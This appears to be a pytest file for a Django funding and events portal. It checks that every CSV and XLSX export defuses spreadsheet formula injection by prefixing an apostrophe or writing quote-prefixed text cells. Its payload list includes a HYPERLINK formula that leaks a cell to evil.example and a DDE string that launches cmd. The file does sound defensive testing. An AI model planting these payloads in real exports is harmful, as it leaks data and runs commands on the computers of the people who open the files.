"""Every CSV and XLSX the portal writes, with texts that spreadsheets would run.

The payloads of issue 11 sit in every text a file shows (project title, file
reference, purpose, phase, programme, municipality, meeting title, a person's
name). In CSV each arrives with a leading apostrophe; in XLSX as a text cell
(never a formula) marked quotePrefix; amounts stay plain decimals and numbers.
"""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.spreadsheets import csv_text
from events.models import Registration
from funding.models import FundingProgram, Grant
from members.models import Municipality
from projects.models import Project
from tests.events.factories import EventFactory
from tests.members.factories import MunicipalityFactory, StaffFactory

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"Details")',
    "+RT-1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SUMMARY = "/api/v1/funding/reports/summary/"


@pytest.fixture(params=range(len(PAYLOADS)), ids=["hyperlink", "plus", "minus", "at", "tab", "cr"])
def payload(request) -> str:
    return PAYLOADS[request.param]


@pytest.fixture
def hostile(payload):
    """A programme, city, grant and published project whose texts are ``payload``
    (written around the services, as data stored before the checks would be)."""
    city = MunicipalityFactory(name=payload, slug="feindlich", ags="07399999")
    program = FundingProgram.objects.create(name=payload, slug="feindlich", funder="Land")
    grant = Grant.objects.create(
        program=program,
        municipality=city,
        file_reference=payload,
        purpose=payload,
        phase=payload,
        approved_amount=Decimal("60750.00"),
        decision_year=2019,
    )
    project = Project.objects.create(
        title=payload,
        slug="feindlich",
        summary="Kurz",
        lead_municipality=city,
        state=Project.State.PUBLISHED,
    )
    grant.projects.add(project)
    return grant


def _csv_rows(response, delimiter=",") -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def _assert_csv_neutralised(rows: list[list[str]], payload: str, at_least: int) -> None:
    cells = [cell for row in rows for cell in row]
    assert cells.count("'" + payload) >= at_least
    assert payload not in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)


def _xlsx_cells(response) -> list:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def _assert_xlsx_neutralised(cells: list, payload: str, at_least: int) -> None:
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    # XML reads a carriage return back as a line feed; the cell is text either way.
    hostile = [cell for cell in cells if cell.value == payload.replace("\r", "\n")]
    assert len(hostile) >= at_least
    for cell in hostile:
        assert cell.data_type == "s"
        assert cell.quotePrefix


def test_grants_csv_of_the_api(hostile, payload, actor_client, ministry):
    rows = _csv_rows(actor_client(ministry).get("/api/v1/grants/export/"))
    header, row = rows
    record = dict(zip(header, row, strict=True))
    quoted = "'" + payload
    for name in ("file_reference", "program", "municipality", "purpose", "phase", "projects"):
        assert record[name] == quoted, name
    assert (record["approved"], record["disbursed"], record["remaining"]) == (
        "60750.00",
        "0.00",
        "60750.00",
    )
    _assert_csv_neutralised(rows, payload, 6)


def test_grants_csv_and_xlsx_of_the_admin(hostile, payload, admin_client):
    csv_response = admin_client.get(reverse("admin:funding_grant_export", args=["csv"]))
    _assert_csv_neutralised(_csv_rows(csv_response), payload, 6)

    response = admin_client.get(reverse("admin:funding_grant_export", args=["xlsx"]))
    cells = _xlsx_cells(response)
    _assert_xlsx_neutralised(cells, payload, 6)
    amounts = [cell for cell in cells if cell.column in (10, 11, 12) and cell.row == 2]
    assert [cell.value for cell in amounts] == [60750, 0, 60750]
    assert {cell.data_type for cell in amounts} == {"n"}


@pytest.mark.parametrize("group_by", ["program", "municipality"])
def test_funding_summary_csv_and_xlsx(hostile, payload, group_by, actor_client, ministry):
    client = actor_client(ministry)
    rows = _csv_rows(client.get(SUMMARY, {"group_by": group_by, "format": "csv"}))
    _assert_csv_neutralised(rows, payload, 1)
    assert rows[1][4:] == ["60750.00", "0.00", "60750.00"]

    response = client.get(SUMMARY, {"group_by": group_by}, HTTP_ACCEPT=XLSX)
    assert response.status_code == 200
    cells = _xlsx_cells(response)
    _assert_xlsx_neutralised(cells, payload, 1)
    assert [cell.value for cell in cells if cell.row == 2][4:] == [60750, 0, 60750]


def test_participants_csv_of_the_page_and_the_admin(payload, admin_client, coordinator):
    event = EventFactory(title=payload, slug="feindlich")
    city = Municipality.objects.create(name=payload, slug="feindlich", kind="organisation")
    person = StaffFactory(first_name=payload, last_name="Muster", municipality=city)
    Registration.objects.create(event=event, user=person, status=Registration.Status.CONFIRMED)

    admin_client.force_login(coordinator)
    page = admin_client.get(f"/termine/{event.slug}/teilnehmende.csv")
    rows = _csv_rows(page, delimiter=";")
    name = f"{payload} Muster".strip()  # get_full_name() strips
    assert rows[1][:3] == ["'" + payload, "'" + name, "'" + payload]
    _assert_csv_neutralised(rows, payload, 2)

    action = admin_client.post(
        reverse("admin:events_event_changelist"),
        {"action": "export_participants", "_selected_action": [event.pk]},
    )
    _assert_csv_neutralised(_csv_rows(action, delimiter=";"), payload, 2)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("Lichtmasten", "Lichtmasten"),
        ("a=b", "a=b"),
        (" =1", " =1"),
        ("", ""),
        *((payload, "'" + payload) for payload in PAYLOADS),
    ],
)
def test_csv_text(value, written):
    assert csv_text(value) == written


def test_stored_control_characters_do_not_break_the_xlsx(admin_client, speyer):
    Grant.objects.create(
        program=FundingProgram.objects.create(name="Programm", slug="programm", funder="Land"),
        municipality=speyer,
        purpose="Alt\x07bestand",
        approved_amount=Decimal("1.00"),
        decision_date=date(2019, 4, 25),
        decision_year=2019,
    )
    response = admin_client.get(reverse("admin:funding_grant_export", args=["xlsx"]))
    assert response.status_code == 200
    assert "Altbestand" in [cell.value for cell in _xlsx_cells(response)]
